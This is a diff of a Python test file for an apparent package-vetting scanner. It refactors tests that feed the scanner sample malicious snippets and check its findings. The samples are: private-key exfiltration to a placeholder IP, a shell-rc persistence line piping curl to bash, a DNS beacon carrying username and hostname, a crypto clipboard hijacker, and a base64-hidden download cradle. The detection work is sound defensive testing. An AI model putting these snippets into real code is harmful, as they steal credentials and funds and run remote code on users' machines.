@@ -20,6 +20,7 @@ from evasions import (
 )
 from vetpy.acquire.archive import open_archive
 from vetpy.acquire.interface import Limits
+from vetpy.features.interface import PackageFeatures
 from vetpy.policy import hard_findings
 
 REG = 0o100644
@@ -28,6 +29,13 @@ PURE = b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
 
 def kinds(data: bytes, filename: str) -> set[str]:
     return {f.kind for f in hard_findings(open_archive(data, target=filename, filename=filename))}
+
+
+def demo_features(files: dict[str, bytes]) -> PackageFeatures:
+    """The features of a demo sdist holding ``files``, read through the real reader."""
+    from vetpy.features.extract import extract_features
+
+    return extract_features(open_archive(sdist(files), target="d", filename="demo-1.0.tar.gz"))
 
 
 def wheel(files: dict[str, bytes], wheel_file: bytes = PURE) -> bytes:
@@ -113,15 +121,13 @@ def test_huge_pth_is_an_incomplete_scan() -> None:
 
 
 def test_custody_exfil_from_the_features_evidence() -> None:
-    from vetpy.features.extract import extract_features
     from vetpy.policy import feature_findings, policy_reasons, token_findings
 
     helper = (
         b"import requests\n\n\ndef get_balance(address, private_key):\n"
         b"    requests.post('http://203.0.113.5:8080/b', json={'a': address, 'k': private_key})\n"
     )
-    archive = open_archive(sdist({"demo/client.py": helper}), target="d", filename="demo-1.0.tar.gz")
-    features = extract_features(archive)
+    features = demo_features({"demo/client.py": helper})
     [finding] = feature_findings(features)
     assert token_findings(features.code_text) == ("custody_exfil",)  # what the lab reads from the cache
     assert (finding.kind, finding.file, finding.line) == ("custody_exfil", "demo-1.0/demo/client.py", 5)
@@ -130,13 +136,11 @@ def test_custody_exfil_from_the_features_evidence() -> None:
     assert reason.feature == "policy.custody_exfil" and reason.line == 5
     # the same helper sending to the address its caller gives: no finding
     honest = helper.replace(b"'http://203.0.113.5:8080/b'", b"address")
-    archive = open_archive(sdist({"demo/client.py": honest}), target="d", filename="demo-1.0.tar.gz")
-    features = extract_features(archive)
+    features = demo_features({"demo/client.py": honest})
     assert feature_findings(features) == () and token_findings(features.code_text) == ()
 
 
 def test_persistence_payload_from_the_features_evidence() -> None:
-    from vetpy.features.extract import extract_features
     from vetpy.policy import feature_findings, policy_reasons, token_findings
 
     dropper = (
@@ -145,8 +149,7 @@ def test_persistence_payload_from_the_features_evidence() -> None:
         b"    with open(rc, 'a') as fh:\n"
         b"        fh.write('\\ncurl -s http://203.0.113.9/i.sh | bash\\n')\n"
     )
-    archive = open_archive(sdist({"demo/shell.py": dropper}), target="d", filename="demo-1.0.tar.gz")
-    features = extract_features(archive)
+    features = demo_features({"demo/shell.py": dropper})
     [finding] = feature_findings(features)
     assert token_findings(features.code_text) == ("persistence_payload",)  # what the lab reads from the cache
     assert (finding.kind, finding.file, finding.line) == ("persistence_payload", "demo-1.0/demo/shell.py", 7)
@@ -155,13 +158,11 @@ def test_persistence_payload_from_the_features_evidence() -> None:
     assert reason.feature == "policy.persistence_payload" and reason.line == 7
     # the same installer adding its own command to the shell's start-up file: no finding
     honest = dropper.replace(b"curl -s http://203.0.113.9/i.sh | bash", b'eval \\"$(demo init -)\\"')
-    archive = open_archive(sdist({"demo/shell.py": honest}), target="d", filename="demo-1.0.tar.gz")
-    features = extract_features(archive)
+    features = demo_features({"demo/shell.py": honest})
     assert feature_findings(features) == () and token_findings(features.code_text) == ()
 
 
 def test_dns_beacon_from_the_features_evidence() -> None:
-    from vetpy.features.extract import extract_features
     from vetpy.policy import feature_findings, token_findings
 
     probe = (
@@ -169,21 +170,18 @@ def test_dns_beacon_from_the_features_evidence() -> None:
         b"    host = getpass.getuser() + '.' + socket.gethostname() + '.abc123.oast.fun'\n"
         b"    socket.gethostbyname(host)\n"
     )
-    archive = open_archive(sdist({"demo/util.py": probe}), target="d", filename="demo-1.0.tar.gz")
-    features = extract_features(archive)
+    features = demo_features({"demo/util.py": probe})
     [finding] = feature_findings(features)
     assert token_findings(features.code_text) == ("dns_beacon",)
     assert (finding.kind, finding.file, finding.line) == ("dns_beacon", "demo-1.0/demo/util.py", 6)
     assert "getpass.getuser, line 5" in finding.message and "abc123.oast.fun (oast)" in finding.message
     # the same name under a placeholder domain: a flow for the model, no finding
     honest = probe.replace(b".abc123.oast.fun", b".corp.example.net")
-    archive = open_archive(sdist({"demo/util.py": honest}), target="d", filename="demo-1.0.tar.gz")
-    features = extract_features(archive)
+    features = demo_features({"demo/util.py": honest})
     assert feature_findings(features) == () and token_findings(features.code_text) == ()
 
 
 def test_clipboard_hijack_from_the_features_evidence() -> None:
-    from vetpy.features.extract import extract_features
     from vetpy.policy import feature_findings, token_findings
 
     clipper = (
@@ -192,29 +190,25 @@ def test_clipboard_hijack_from_the_features_evidence() -> None:
         b"    if re.match(r'^0x[a-fA-F0-9]{40}$', text):\n"
         b"        pyperclip.copy('0x52908400098527886E0F7030069857D2E4169EE7')\n"
     )
-    archive = open_archive(sdist({"demo/watch.py": clipper}), target="d", filename="demo-1.0.tar.gz")
-    features = extract_features(archive)
+    features = demo_features({"demo/watch.py": clipper})
     [finding] = feature_findings(features)
     assert token_findings(features.code_text) == ("clipboard_hijack",)
     assert (finding.kind, finding.file, finding.line) == ("clipboard_hijack", "demo-1.0/demo/watch.py", 7)
     # the copy of what was pasted, upper-cased: a clipboard manager
     honest = clipper.replace(b"'0x52908400098527886E0F7030069857D2E4169EE7'", b"text.upper()")
     honest = honest.replace(b"r'^0x[a-fA-F0-9]{40}$'", b"r'^[a-z]+$'")
-    archive = open_archive(sdist({"demo/watch.py": honest}), target="d", filename="demo-1.0.tar.gz")
-    features = extract_features(archive)
+    features = demo_features({"demo/watch.py": honest})
     assert feature_findings(features) == () and token_findings(features.code_text) == ()
 
 
 def test_hidden_payload_from_the_features_evidence() -> None:
     import base64
 
-    from vetpy.features.extract import extract_features
     from vetpy.policy import feature_findings, policy_reasons, token_findings
 
     cradle = base64.b64encode(b"curl -s http://203.0.113.9/x.sh | sh")
     plugin = b"import os, base64\n\n\ndef update():\n    os.system(base64.b64decode('" + cradle + b"'))\n"
-    archive = open_archive(sdist({"demo/plugin.py": plugin}), target="d", filename="demo-1.0.tar.gz")
-    features = extract_features(archive)
+    features = demo_features({"demo/plugin.py": plugin})
     [finding] = feature_findings(features)
     assert token_findings(features.code_text) == ("hidden_payload",)  # what the lab reads from the cache
     assert (finding.kind, finding.file, finding.line) == ("hidden_payload", "demo-1.0/demo/plugin.py", 5)
@@ -223,6 +217,5 @@ def test_hidden_payload_from_the_features_evidence() -> None:
     assert reason.feature == "policy.hidden_payload" and reason.line == 5
     # the same command written as it is: the model judges it, no finding
     plain = b"import os\n\n\ndef update():\n    os.system('curl -s http://203.0.113.9/x.sh | sh')\n"
-    archive = open_archive(sdist({"demo/plugin.py": plain}), target="d", filename="demo-1.0.tar.gz")
-    features = extract_features(archive)
+    features = demo_features({"demo/plugin.py": plain})
     assert feature_findings(features) == () and token_findings(features.code_text) == ()
